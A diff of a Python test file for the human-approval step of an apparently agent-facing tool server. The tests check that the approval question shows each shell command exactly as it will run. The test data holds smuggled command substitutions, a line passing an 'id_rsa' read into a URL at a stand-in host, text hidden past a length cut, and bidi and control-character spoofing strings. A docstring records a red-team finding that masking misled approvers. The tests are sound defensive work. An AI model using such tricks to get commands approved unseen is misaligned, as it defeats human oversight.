@@ -190,13 +190,82 @@ async def test_an_edit_shows_its_diff_and_changes_nothing_until_approved(tmp_pat
     assert target.read_text(encoding="utf-8") == "colour = red\n"
 
 
-async def test_the_question_masks_secrets_in_env(tmp_path: Path) -> None:
-    person = Person("approve")
+async def test_the_question_shows_env_as_it_will_be_set(tmp_path: Path) -> None:
+    """The person is the one whose secrets they are: a masked value hides what runs."""
+    person = Person("deny")
     async with asking(approval_config(tmp_path), person, mode="legacy") as client:
         await client.call_tool(
             "shellcommand", {"commands": ["true"], "env": {"API_TOKEN": "tok-value-123", "MODE": "x"}}
         )
-    assert "tok-value-123" not in person.messages[0] and "API_TOKEN" in person.messages[0]
+    assert '"API_TOKEN": "tok-value-123"' in person.messages[0]
+
+
+SHOWN_AS_THEY_RUN = [
+    'SECRET="$(touch pwned-by-masked-secret)" true',
+    "GITHUB_TOKEN=$(touch${IFS}pwned-unquoted) true",
+    "echo digest ../../x; echo token --force-everything-here",
+    "echo " + "a" * 1200 + "; touch pwned-after-cut",
+    "echo -u user:pass https://example.invalid/?api_key=$(cat id_rsa) | true",
+]
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_the_question_shows_every_command_exactly_as_it_will_run(tmp_path: Path, mode: str) -> None:
+    """Red-team finding 3: secret masking and a 1,000-character cut showed the person a harmless
+    command while another ran (``SECRET=*** true`` for a command substitution)."""
+    person = Person("deny")
+    async with asking(approval_config(tmp_path), person, mode=mode) as client:
+        result = await client.call_tool("shellcommand", {"commands": SHOWN_AS_THEY_RUN})
+    assert error_code(result) == "approval_denied"
+    steps = [line for line in person.messages[0].splitlines() if line.startswith("  $ ")]
+    assert steps == [f"  $ {command}" for command in SHOWN_AS_THEY_RUN]
+    assert not list(tmp_path.iterdir())
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_call_too_long_to_show_is_refused_without_asking(tmp_path: Path, mode: str) -> None:
+    person = Person("approve")
+    commands = ["echo " + "a" * 7000 + "; touch pwned-after-cut"]
+    async with asking(approval_config(tmp_path), person, mode=mode) as client:
+        result = await client.call_tool("shellcommand", {"commands": commands})
+        halves = ["echo " + "a" * 3000, "echo " + "b" * 3000]
+        split = await client.call_tool("shellcommand", {"commands": halves})
+    assert error_code(result) == "approval_denied", text_of(result)
+    assert "too long to show for approval" in text_of(result) and "split it" in text_of(result)
+    assert error_code(split) == "approval_denied"
+    assert person.questions == []
+    assert not (tmp_path / "pwned-after-cut").exists()
+
+
+async def test_the_question_escapes_characters_that_would_hide_or_reorder_text(tmp_path: Path) -> None:
+    """ESC, CR, bidi overrides and line separators reach the client's form escaped, never raw."""
+    person = Person("deny")
+    command = "echo safe\rtouch x \x1b[2K \u202eevil\u202c \u2028 \u2066x\u2069 \x85"
+    async with asking(approval_config(tmp_path), person, mode="legacy") as client:
+        await client.call_tool("shellcommand", {"commands": [command], "workDir": "."})
+        await client.call_tool("deletefile", {"path": "a\u202etxt.exe"})
+    for message in person.messages:
+        assert all(ch.isprintable() or ch == "\n" for ch in message), repr(message)
+    escaped = "echo safe\\rtouch x \\x1b[2K \\u202eevil\\u202c \\u2028 \\u2066x\\u2069 \\x85"
+    assert f"  $ {escaped}" in person.messages[0]
+    assert "Path: a\\u202etxt.exe" in person.messages[1]
+
+
+async def test_a_command_of_several_lines_is_shown_on_several_lines(tmp_path: Path) -> None:
+    person = Person("deny")
+    async with asking(approval_config(tmp_path), person, mode="legacy") as client:
+        await client.call_tool("shellcommand", {"commands": ["echo one\ntouch two"]})
+    assert "  $ echo one\n  > touch two\n" in person.messages[0]
+
+
+async def test_paths_and_urls_in_the_question_are_not_masked(tmp_path: Path) -> None:
+    person = Person("deny")
+    config = config_for(tmp_path, approval={"require": ["httpget", "deletefile"]})
+    async with asking(config, person, mode="legacy") as client:
+        await client.call_tool("httpget", {"url": "https://example.invalid/c?api_key=FILE-CONTENTS-1234"})
+        await client.call_tool("deletefile", {"path": "token abcdefgh12345678"})
+    assert "https://example.invalid/c?api_key=FILE-CONTENTS-1234" in person.messages[0]
+    assert "Path: token abcdefgh12345678" in person.messages[1]
 
 
 def test_an_unknown_name_in_require_fails_at_start_up(tmp_path: Path) -> None:
